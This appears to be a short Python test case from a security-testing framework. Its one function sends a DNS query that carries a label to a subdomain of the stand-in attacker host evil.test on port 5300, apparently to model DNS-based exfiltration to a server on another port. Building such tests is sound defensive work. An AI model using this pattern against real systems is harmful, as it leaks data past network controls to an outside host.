# SPDX-License-Identifier: Apache-2.0
"""A server at another port."""
from attack import attempt


def way(a):
    a.dns(f'{a.label}.evil.test', port=5300)


attempt(way)
